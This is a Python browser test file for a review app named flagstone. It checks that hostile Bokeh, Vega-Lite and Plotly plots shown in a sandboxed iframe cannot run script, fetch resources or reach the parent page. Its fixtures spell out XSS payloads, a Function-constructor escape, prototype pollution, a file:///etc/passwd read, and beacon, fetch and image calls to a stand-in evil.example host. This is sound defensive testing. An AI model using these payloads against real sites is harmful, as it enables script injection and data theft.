"""
A hostile plot runs nothing, asks nobody, and does not reach the page around its frame.
"""

import json
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from plots import PLOTS, flag_with, plot_value
from test_hostile_content import Watch

from flagstone import Value
from flagstone.review import create_app
from flagstone.stores.memory import MemoryStore

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
CODE = (
    "window.ran = 1; try { top.ran = 1; } catch {} new Image().src = 'https://evil.example/code';"
)
MARKUP = (
    f'<a href="javascript:{CODE}">x</a><a href="{EVIL}/link" target="_self">y</a>'
    f'<img src="{EVIL}/img" onerror="{CODE}"><svg onload="{CODE}"></svg></pre></template>'
    f"<script>{CODE}</script><style>@import '{EVIL}/css';</style>"
    f'<meta http-equiv="refresh" content="0;url={EVIL}/meta"><iframe src="{EVIL}/frame"></iframe>'
    f"\u202e\ud83d\ude00"
)


def bokeh_plots() -> dict[str, Any]:
    from bokeh.layouts import column
    from bokeh.models import (
        AjaxDataSource,
        CustomJS,
        CustomJSTickFormatter,
        Div,
        WMTSTileSource,
    )  # fmt: skip
    from bokeh.plotting import figure

    def plot(**named: Any) -> Any:
        made = figure(**named)
        made.scatter([1, 2], [3, 1])
        return made

    ready = plot()
    ready.js_on_event("rangesupdate", CustomJS(code=CODE))
    ready.x_range.js_on_change("start", CustomJS(code=CODE))
    ready.js_on_change("inner_width", CustomJS(code=CODE))
    ticks = plot()
    ticks.xaxis.formatter = CustomJSTickFormatter(code=f"{CODE} return tick")
    tiles = figure(x_range=(-2e6, 6e6), y_range=(-1e6, 7e6))
    tiles.add_tile(WMTSTileSource(url=f"{EVIL}/{{Z}}/{{X}}/{{Y}}.png", attribution=MARKUP))
    pictures = plot()
    pictures.image_url(url=[f"{EVIL}/picture.png"], x=1, y=1, w=1, h=1)
    asking = figure()
    asking.scatter("x", "y", source=AjaxDataSource(data_url=f"{EVIL}/data", polling_interval=50))
    return {
        "callback": ready, "ticks": ticks, "tiles": tiles, "pictures": pictures, "asking": asking,
        "title": plot(title=MARKUP), "div": column(Div(text=MARKUP), plot()),
    }  # fmt: skip


def vega_plots() -> dict[str, Any]:
    code = f"[].constructor.constructor({json.dumps(CODE)})()"
    values = {"values": [{"x": 1, "t": MARKUP, "u": f"{EVIL}/picture.png"}]}
    bar = {"$schema": "https://vega.github.io/schema/vega-lite/v6.json", "data": values,
           "mark": "bar", "encoding": {"x": {"field": "x", "type": "quantitative"}}}  # fmt: skip
    shown = {"field": "t", "type": "nominal"}
    options = {
        "ast": False, "actions": True, "defaultStyle": MARKUP, "bind": "html", "renderer": "canvas",
        "patch": f"{EVIL}/patch.json", "config": f"{EVIL}/config.json", "editorUrl": EVIL,
        "loader": {"baseURL": EVIL, "http": {"credentials": "include"}}, "theme": MARKUP,
    }  # fmt: skip
    return {
        "url": bar | {"data": {"url": f"{EVIL}/data.json"}},
        "file": bar | {"data": {"url": "file:///etc/passwd", "format": {"type": "csv"}}},
        "own": bar | {"data": {"url": "/records?flag=x"}},
        "expression": bar | {"transform": [{"calculate": code, "as": "x"}]},
        "parameter": bar | {"params": [{"name": "p", "expr": code}]},
        "options": bar | {"usermeta": {"embedOptions": options},
                          "transform": [{"calculate": code, "as": "x"}]},
        "title": bar | {"title": MARKUP},
        "text": bar | {"encoding": {"x": shown, "tooltip": shown, "href": {"value": EVIL}}},
        "image": bar | {"mark": {"type": "image", "width": 9, "height": 9},
                        "encoding": {"url": {"field": "u", "type": "nominal"}}},
        "bind": bar | {"params": [{"name": "p", "value": 1,
                                   "bind": {"input": "select", "options": [MARKUP], "name": MARKUP,
                                            "element": "html"}}]},
        "vega": {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 9, "height": 9,
                 "signals": [{"name": "s", "init": code, "on": [
                     {"events": {"type": "timer", "throttle": 1}, "update": code}]}],
                 "data": [{"name": "d", "url": f"{EVIL}/data.json"}], "marks": []},
    }  # fmt: skip


def plotly_plots() -> dict[str, Any]:
    def figure(trace: dict[str, Any], **layout: Any) -> Any:
        return {"data": [{"type": "bar", "x": [1], "y": [1]} | trace], "layout": layout}

    picture = {"source": f"{EVIL}/image.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
    style = {"style": f"{EVIL}/style.json", "accesstoken": "pk.x"}
    place = {"lon": [1], "lat": [1], "x": None, "y": None}
    return {
        "title": figure({"text": [MARKUP], "name": MARKUP, "hovertemplate": MARKUP}, title=MARKUP),
        "labels": figure({"x": [MARKUP]}, xaxis={"title": MARKUP}, annotations=[{"text": MARKUP}]),
        "images": figure({}, images=[picture]),
        "image": figure({"type": "image", "source": f"{EVIL}/image.png"}),
        "geo": figure({"type": "scattergeo", **place}),
        "map": figure({"type": "scattermap", **place}, map=style),
        "mapbox": figure({"type": "scattermapbox", **place}, mapbox=style),
        "menus": figure({}, updatemenus=[{"buttons": [{"label": MARKUP, "method": "relayout",
                                                       "args": ["title", MARKUP]}]}]),
        "prototype": {"data": [], "layout": {"__proto__": {"ran": 1}}, "frames": [MARKUP]},
    }  # fmt: skip


def hostile_plots() -> dict[str, Value]:
    found = {f"bokeh {name}": plot_value(plot) for name, plot in bokeh_plots().items()}
    for library, plots in (("altair", vega_plots()), ("plotly", plotly_plots())):
        for name, plot in plots.items():
            data = {"type": library, "plot": json.dumps(plot)}
            found[f"{library} {name}"] = Value(kind="plot", data=data)
    return found


def refused_requests(page: Page) -> list[str]:
    """The addresses that a policy kept from being asked for; the list grows."""
    refused: list[str] = []
    page.on(
        "requestfailed",
        lambda request: refused.append(request.url) if request.failure == "csp" else None,
    )
    return refused


def harm_of(watch: Watch, refused: list[str]) -> list[str]:
    """What a plot did but draw, and be refused."""
    harm = [seen for seen in watch.told() if seen.startswith(("dialog", "request", "ran"))]
    return [seen for seen in harm if seen.removeprefix("request: ") not in refused]


@pytest.mark.parametrize("name", [
    *(f"bokeh {name}" for name in bokeh_plots()),
    *(f"altair {name}" for name in vega_plots()),
    *(f"plotly {name}" for name in plotly_plots()),
])  # fmt: skip
def test_a_hostile_plot_does_nothing(page: Page, serve: Callable[..., str], name: str) -> None:
    """
    Code, markup and addresses in a plot do not run, are not asked for, and change nothing.
    """
    store = MemoryStore()
    flag = flag_with(store, plot=hostile_plots()[name])
    url = serve(create_app(store))
    watch, refused = Watch(page, url), refused_requests(page)
    page.goto(f"{url}/flag?id={flag.id}")
    expect(page.locator("html[data-ready=flag]")).to_be_attached()
    frame = page.frames[1]
    expect(page.locator("iframe").content_frame.locator("html[data-ready]")).to_be_attached()
    address = frame.url

    for place in ({"x": 150, "y": 150}, {"x": 200, "y": 30}):
        page.locator("iframe").click(position=place)
    for link in page.locator("iframe").content_frame.locator("a").all():
        link.dispatch_event("click")

    assert harm_of(watch, refused) == []
    assert frame.evaluate("window.ran") is None
    assert {each.url for each in page.frames} <= {
        page.url,
        address,
        "chrome-error://chromewebdata/",
    }
    assert page.url == f"{url}/flag?id={flag.id}"
    assert len(page.context.pages) == 1
    page.keyboard.press("Escape")


def test_a_script_in_the_frame_would_reach_nothing(page: Page, serve: Callable[..., str]) -> None:
    """
    Even what ran in the frame would have no page, cookie, storage, network or other address.
    """
    store = MemoryStore()
    flag = flag_with(store, plot=plot_value(PLOTS["plotly"]()))
    url = serve(create_app(store))
    watch, refused = Watch(page, url), refused_requests(page)
    page.goto(f"{url}/flag?id={flag.id}")
    expect(page.locator("iframe").content_frame.locator("html[data-ready]")).to_be_attached()
    frame = page.frames[1]

    def attempt(code: str) -> str:
        return str(frame.evaluate(f"async () => {{ try {{ {code}; return 'done' }} "
                                  "catch (error) { return error.name } }"))  # fmt: skip

    assert attempt("parent.document.title = 'ran'") == "SecurityError"
    assert attempt("top.location = 'about:blank'") == "SecurityError"
    assert attempt("document.cookie = 'a=b'") == "SecurityError"
    assert attempt("localStorage.a = 1") == "SecurityError"
    assert attempt(f"await fetch('{url}/news')") == "TypeError"
    assert attempt(f"await fetch('{EVIL}')") == "TypeError"
    assert attempt("new WebSocket('wss://evil.example')") in ("SecurityError", "done")
    assert attempt("if (open('about:blank') === null) throw new TypeError()") == "TypeError"
    for source in (
        f"{EVIL}/x.js",
        f"{url}/file?flag={flag.id}",
        "data:text/javascript,ran=1",
    ):
        assert attempt(f"await import('{source}')") == "TypeError"
    attempt(f"new Image().src = '{EVIL}/x.png'; navigator.sendBeacon('{EVIL}/beacon')")
    attempt("document.body.insertAdjacentHTML('beforeend', '<form action=/logout method=post>');"
            "document.forms[0].submit()")  # fmt: skip
    attempt(f"location = '{EVIL}/away'")

    assert harm_of(watch, refused) == []
    assert page.url == f"{url}/flag?id={flag.id}"


def test_the_frame_is_no_page_of_its_own(page: Page, serve: Callable[..., str]) -> None:
    """
    The address of a plot is for frames: opened in a tab it shows nothing of the plot.
    """
    store = MemoryStore()
    flag = flag_with(store, plot=plot_value(PLOTS["plotly"]()))
    url = serve(create_app(store))
    page.goto(f"{url}/flag?id={flag.id}")
    source = page.locator("iframe").get_attribute("src")

    answer = page.goto(f"{url}{source}")

    assert answer is not None
    assert answer.status == 404
    assert "Two bars" not in page.content()
